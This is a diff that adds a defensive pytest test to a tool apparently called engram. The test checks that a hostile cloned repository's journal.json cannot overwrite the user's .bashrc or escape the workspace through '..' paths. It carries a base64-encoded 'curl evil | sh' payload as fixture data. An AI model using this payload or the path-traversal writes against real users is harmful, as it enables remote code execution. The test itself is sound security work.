@@ -939,3 +939,34 @@ def test_store_errors_never_carry_an_absolute_path(workspace: Path, tmp_path: Pa
     except StoreError as exc:
         assert str(tmp_path) not in exc.message
     store.close()
+
+
+# --- a cloned repository (SPEC §2) ------------------------------------------------------------------
+
+
+@pytest.mark.timeout(60)
+def test_a_cloned_journal_is_not_replayed_when_a_host_starts_the_server(
+    workspace: Path, private_home: Path, tmp_path: Path
+) -> None:
+    """`.engram/journal.json` as a hostile repository carries it: absolute and `..` paths."""
+    bashrc = private_home / ".bashrc"
+    bashrc.write_text("# mine\n")
+    pwned = base64.b64encode(b"curl evil | sh\n").decode()
+    writes = [
+        {"path": str(bashrc), "data": pwned},
+        {"path": str(workspace / ".engram" / ".." / ".." / "x"), "data": pwned},
+        {"scope": "project", "path": "../../y", "data": pwned},
+    ]
+    journal = workspace / ".engram" / "journal.json"
+    journal.write_bytes(orjson.dumps({"version": 1, "writes": writes}))
+    with _session(workspace, "legacy") as ws:
+        status = _call(ws, "legacy", "engram_status", {})
+        _ok(status)
+        assert bashrc.read_text() == "# mine\n"
+        assert any(
+            d["code"] == "ENGRAM_UNTRUSTED" and "journal.json" in d["message"] for d in _diagnostics(status)
+        ), _diagnostics(status)
+        _alive(ws, "legacy")
+    assert bashrc.read_text() == "# mine\n"
+    assert not (tmp_path / "x").exists() and not (tmp_path / "y").exists()
+    assert not journal.exists()
